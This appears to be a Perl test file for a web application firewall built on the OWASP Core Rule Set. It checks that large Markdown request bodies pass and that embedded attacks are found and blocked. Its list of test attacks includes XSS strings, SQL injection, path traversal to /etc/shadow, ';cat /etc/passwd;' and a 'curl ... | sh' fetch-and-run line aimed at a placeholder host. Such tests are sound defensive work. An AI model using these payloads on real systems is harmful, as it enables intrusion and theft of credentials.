#!/usr/bin/perl

# A megabyte of Markdown in one value, or in many, under the Core Rule Set and
# under the rules for APIs: it passes as a page of it does, and what stands in
# it is found by the same rules wherever it stands.

use strict;
use warnings;
use lib 't/lib';

use ApiTest;
use ApiTest::Run;
use ApiTest::Single;
use File::Temp qw(tempdir);
use Test::More;

my $dir = tempdir(CLEANUP => 1);
my $port = free_port('LARGE_VALUES');
my $up = free_port('LARGE_VALUES_UP');
chomp(my $crs = `.ci/crs`);

write_file("$dir/on.conf", "SecRuleEngine On\nSecAuditEngine Off\n");
single($dir, $port, <<"END");
    api_waf_ruleset crs $crs/modsecurity.conf $dir/on.conf $crs/owasp-crs.load;
    server {
        listen 127.0.0.1:$port;
        add_header X-Rules \$api_waf_rules always;
        location /crs { api_waf crs; proxy_pass http://127.0.0.1:$up; }
        location /core { api_waf core; proxy_pass http://127.0.0.1:$up; }
        location /watch/crs { api_waf crs mode=monitor;
            proxy_pass http://127.0.0.1:$up; }
        location /watch/core { api_waf core mode=monitor;
            proxy_pass http://127.0.0.1:$up; }
    }
    server {
        listen 127.0.0.1:$up;
        location / { return 200 "ok\\n"; }
    }
END

my %type = (
    json => 'application/json',
    items => 'application/json',
    form => 'application/x-www-form-urlencoded',
    text => 'text/plain',
);

sub quoted {
    my $s = $_[0] =~ s/(["\\])/\\$1/gr =~ s/\n/\\n/gr;
    return "\"$s\"";
}

my %body = (
    json => sub { return '{"doc":' . quoted($_[0]) . '}' },
    items => sub { return '[' . join(',', map { quoted($_) } $_[0] =~ /(.{1,5000})/gs) . ']' },
    form => sub { return 'doc=' . $_[0] =~ s/([^\w.-])/sprintf '%%%02x', ord $1/ger },
    text => sub { return $_[0] },
);

# Status, and rules that match, each once.

sub sent {
    my ($path, $kind, $text) = @_;
    my $body = $body{$kind}->($text);
    my $s = connected();
    put($s, "POST $path HTTP/1.1\r\nHost: api.example.com\r\n"
        . "User-Agent: t\r\nAccept: */*\r\nContent-Type: $type{$kind}\r\n"
        . 'Content-Length: ' . length($body) . "\r\nConnection: close\r\n\r\n$body");
    my ($status, $head) = answered($s);
    my %ids = map { $_ => 1 } $head =~ /\nX-Rules: (.*?)\r\n/ ? split(/[, ]+/, $1) : ();
    return ($status, join ' ', sort keys %ids);
}

# Whatever chains of transformations change: blanks, cases, escapes of each
# kind, dots, comments, dashes, letters beyond ASCII.

my $page = <<'END';
## How an Order Is Made

It's the *customer* who begins, see <https://docs.example.com/a/b?x=1&y=2>,
which says "when", and 5% more of it.  A caf&eacute; in Z\"urich -- or C:\Temp -- is
no   place for that, is it? &amp; so on /* and on */, as **Tom** & Ann wrote:

- one item, two items; 3+4 of them\n
- [x] done ^1

> The end of it.

END

sub large {
    my ($attack, $at) = @_;
    my $text = substr $page x (1 + 2**20 / length $page), 0, 1_000_000;
    substr $text, $at, length $attack, $attack;
    return $text;
}

# As much around it as makes for whole pages.

sub short {
    my ($text, $at) = @_;
    my $from = $at < 1000 ? 0 : $at - 1000;
    return substr $text, $from, $at + 1200 - $from;
}

my %kinds = (crs => [qw(json items form)], core => [qw(json items form text)]);

for my $set (sort keys %kinds) {
    for my $kind (@{ $kinds{$set} }) {
        my ($status, $rules) = sent("/$set", $kind, $page x 4);
        is($status, 200, "$set, $kind: pages of Markdown pass");
        my ($large, $more) = sent("/$set", $kind, large('', 0));
        is($large, 200, '... a megabyte of them, too');
        is($more, $rules, '... by the same rules');
    }
}

my @attacks = (
    ' <script>alert(1)</script> ',
    ' ;cat /etc/passwd; ',
    ' ../../../../etc/shadow ',
    ' %3Cimg src=x onerror=alert%281%29%3E ',
    ' || curl http://x.example.com/a.sh | sh ',
    " ' or 1=1 union all select 1, 2, 3 from users -- ",
    ' &#x3c;svg onload=alert(1)&#x3e; ',
);

# The beginning, the middle, the end; and across the bounds of parts of 16 and 64
# KB.

my @places = (0, 500_000, 999_900, 16384 - 9, 65536 * 3 - 7, 32768 - 12);
my $n = 0;

for my $set (sort keys %kinds) {
    for my $attack (@attacks) {
        my $at = $places[$n % @places];
        my $kind = $kinds{$set}[$n++ % @{ $kinds{$set} }];
        my $text = large($attack, $at);
        my (undef, $twin) = sent("/watch/$set", $kind, short($text, $at));
        my ($status, $rules) = sent("/watch/$set", $kind, $text);

        isnt($twin, '', "$set, $kind:$attack");
        is($rules, $twin, "... is found at $at of a megabyte as in a short text");
        is($status, 200, '... and watched');
        is((sent("/$set", $kind, $text))[0], 403, '... it is refused');
    }
}

# apisec waf explain says of a chain that breaks what it has seen, when texts of
# the rules behind it have taken the place of that.

write_file("$dir/explained.conf", <<'END');
SecRuleEngine On
SecRule ARGS "@rx needle" "id:1,phase:2,pass,t:lowercase,chain"
SecRule ARGS "@rx nowhere" ""
SecRule ARGS "@rx NEEDLE" "id:2,phase:2,pass,t:uppercase"
END
write_file("$dir/explained", join "\r\n", 'POST /a HTTP/1.1', 'Host: api.example.com',
    "Content-Type: $type{form}", '', 'doc=One-Needle' . 'x' x 100_000);
my $said = apisec('waf', 'explain', "$dir/explained.conf", '--request', "$dir/explained",
    '--all')->{out};
like($said, qr/^1 .* in part\n.*doc.*\n\s+lowercase: "one-needlex/m,
    'explain: what a part of a chain has seen');
like($said, qr/^2 .*\n.*doc.*\n\s+uppercase: "ONE-NEEDLEX/m, '... and what the next rule has');

unlike(slurp("$dir/error.log"), qr/\[(?:alert|emerg|crit)\]|signal|memory/,
    'nothing is wrong');

done_testing();
